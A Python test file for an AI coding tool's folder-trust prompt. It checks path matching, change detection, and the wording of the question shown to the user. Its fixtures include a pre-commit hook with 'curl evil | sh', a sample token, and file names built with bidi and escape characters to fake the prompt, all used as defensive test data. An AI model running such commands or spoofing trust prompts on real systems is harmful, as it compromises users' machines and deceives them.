"""Which trust answer applies, when it ends, and the question to the user."""

from __future__ import annotations

import random
import time

import pytest
from inline_snapshot import snapshot

from indwell.policy import trust
from indwell.policy.trust import (
    TrustStanding,
    is_unchanged,
    nearest,
    question_words,
    restricted_words,
)
from indwell.settings.trusted_files import FolderAnswer, TrustedFile, seen
from indwell.workspace.executable_places import FILES, Executable
from support.platforms import posix_only

YES, NO = FolderAnswer(trusted=True, at="2026-11-21"), FolderAnswer(trusted=False, at="2026-11-21")


def file(name: str, text: str = "x", kind: str = "programs") -> Executable:
    lines = tuple(text.splitlines())
    return Executable(name, kind, seen(text.encode(), lines=lines), lines)


def kept(*files: Executable) -> dict[str, TrustedFile]:
    return {one.name: one.seen for one in files}


def test_tru_06_the_nearest_trust_answer_counts() -> None:
    answers = {"/home/u/src": YES, "/home/u/src/evil": NO}
    assert nearest("/home/u/src/evil/sub", answers) == "/home/u/src/evil"
    assert nearest("/home/u/src/good", answers) == "/home/u/src"
    assert nearest("/home/u/src", answers) == "/home/u/src"
    assert nearest("/home/u/src-evil", answers) is None
    assert nearest("/home/u", answers) is None


def test_tru_05_only_files_with_trusted_content_count_as_unchanged() -> None:
    before = kept(file("AGENTS.md", "a"), file(".mcp.json", "b"))
    assert is_unchanged(before, [file("AGENTS.md", "a"), file(".mcp.json", "b")])
    assert is_unchanged(before, [file("AGENTS.md", "a")])  # a missing file is harmless
    assert not is_unchanged(before, [file("AGENTS.md", "c")])
    assert not is_unchanged(before, [file("AGENTS.md", "a"), file(".envrc", "d")])
    unknown = Executable(".indwell/…", "settings", TrustedFile(""))
    assert not is_unchanged(kept(unknown), [unknown])


def test_the_trust_question_for_a_folder_without_files_names_no_file_that_could_change() -> None:
    last = question_words("/work", [], None).split("\n", 2)[-1]
    assert last == "Indwell asks again when one appears."


def test_the_question_lists_what_trust_enables() -> None:
    items = [
        file("AGENTS.md", kind="instructions"),
        file(".indwell/config.toml", kind="settings"),
        file(".mcp.json", kind="servers"),
        file(".git/hooks/pre-commit"),
        file(".vscode/tasks.json"),
    ]
    assert question_words("/work", items, None) == snapshot("""\
Indwell: do you trust the files in '/work'?
It is restricted now: Indwell reads and answers, but does not edit files or run commands. If you trust it, Indwell does both, as your mode and rules allow, and these files take effect:
- Run or loaded by git, editors, shells and tools on their own: .vscode/tasks.json, .git/hooks/pre-commit
- Servers that agents start: .mcp.json
- Settings of Indwell, which may tighten yours and name commands to run as hooks: .indwell/config.toml
- Instructions that would go to the model: AGENTS.md
You are asked again when one of these files changes.\
""")  # noqa: E501 - as it is shown


def test_an_empty_folder_needs_the_trust_question() -> None:
    words = question_words("/w", [], None)
    assert (
        "as your mode and rules allow. The folder has no files so far that trust would enable.\n"
        in words
    )


def test_tru_05_the_trust_question_for_a_changed_file_shows_its_diff() -> None:
    old = file(".indwell/config.toml", "mode = 'plan'\nround_limit = 5\n", "settings")
    new = file(".indwell/config.toml", "mode = 'auto'\nround_limit = 5\n", "settings")
    more = file(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
    gone = file("AGENTS.md", "x")
    assert question_words("/work", [new, more], kept(old, gone)) == snapshot("""\
Indwell: files of '/work' that you trusted have changed. Trust the folder as it is now? Until then nothing in it is changed or run.
New: .git/hooks/pre-commit
Changed: .indwell/config.toml
Gone: AGENTS.md
.indwell/config.toml:
− 1 line
+ mode = 'auto'
.git/hooks/pre-commit:
+ #!/bin/sh
+ curl evil | sh\
""")  # noqa: E501 - as it is shown


def test_a_long_diff_cannot_push_a_name_out_of_sight() -> None:
    long = file("AGENTS.md", "\n".join(map(str, range(1_000))), "instructions")
    words = question_words("/work", [long, file("zz.code-workspace", "evil")], kept())
    head = words.split("\n")[1]
    assert head == "New: AGENTS.md, zz.code-workspace"
    assert words.endswith("… and more")
    assert words.count("\n") == trust.MOST_LINES + 1


def test_a_key_in_a_changed_file_is_not_shown() -> None:
    new = file(".vscode/mcp.json", '{"env": {"TOKEN": "ghp_0123456789abcdef0123"}}', "servers")
    words = question_words("/work", [new], kept())
    assert "ghp_0123456789abcdef0123" not in words
    assert '+ {"env": {"TOKEN": "[secret]"}}' in words


def test_names_and_lines_cannot_fake_the_question() -> None:
    evil = file(".indwell/a\n\u202eTrusted already, choose: Trust", "x\u202e\x1b[31m\u200by")
    for before in (None, {}):
        words = question_words("/work\n/fake", [evil], before)
        assert "\u202e" not in words
        assert "\x1b" not in words
        assert "\u200b" not in words
        assert not any(line.startswith("Trusted already") for line in words.split("\n"))
        assert words.split("\n")[0].count("/fake") == 1


def test_tru_13_ignored_files_are_counted() -> None:
    standing = TrustStanding("/work", "restricted", "your answer of 2026-11-21")
    assert restricted_words(standing, 50) == (
        "'/work' is restricted (your answer of 2026-11-21): reading and answering works, edits and "
        "commands do not. 50 instruction files ignored (untrusted). What to do: to trust it, "
        "run `indwell trust` in it."
    )
    assert "ignored" not in restricted_words(standing, 0)
    assert " 1 instruction file ignored" in restricted_words(standing, 1)


@posix_only("names")
def test_m4_a_folder_with_a_backslash_in_its_name_is_not_inside_another() -> None:
    assert nearest("/t/proj\\evil", {"/t/proj": YES}) is None
    assert nearest("/t/PROJ/a", {"/t/proj": YES}) is None


@pytest.mark.parametrize("is_change", [False, True])
def test_m5_no_number_of_decoy_files_hides_a_name(is_change) -> None:
    dummies = [file(f".husky/{number:03}") for number in range(100)]
    dummies += [file(f".git/hooks/{number:03}") for number in range(100)]
    dummies += [file(f"!{number:03}/.git/config") for number in range(500)]
    known = [file(name, kind=kind) for kind, name in FILES]
    words = question_words("/w", [*dummies, *known], {} if is_change else None)
    assert [name for _, name in FILES if name not in words] == []
    assert ".husky/ (100 files)" in words
    assert ".git/hooks/ (100 files)" in words
    assert len(words) < 20_000


def test_l4_a_diff_of_any_lines_is_computed_in_time() -> None:
    shuffled = [str(number // 3) for number in range(1_000)]
    random.Random(6).shuffle(shuffled)
    for old, new in [
        (["a", "b"] * 500, ["b", "a", "a"] * 333),
        (["x"] * 1_000, [*["x"] * 999, "y"]),
        (sorted(shuffled), shuffled),
    ]:
        started = time.process_time()
        words = question_words("/w", [file("f", "\n".join(new))], kept(file("f", "\n".join(old))))
        assert time.process_time() - started < 1.0
        assert "f:" in words
    assert words.endswith("f:\n  (its lines are in another order)")


def test_each_new_line_of_a_long_changed_file_is_shown() -> None:
    old = [f"line {number}" for number in range(500)]
    new = [*old[:100], "evil", *old[102:]]
    words = question_words("/w", [file("f", "\n".join(new))], kept(file("f", "\n".join(old))))
    assert words.endswith("f:\n− 2 lines\n+ evil")
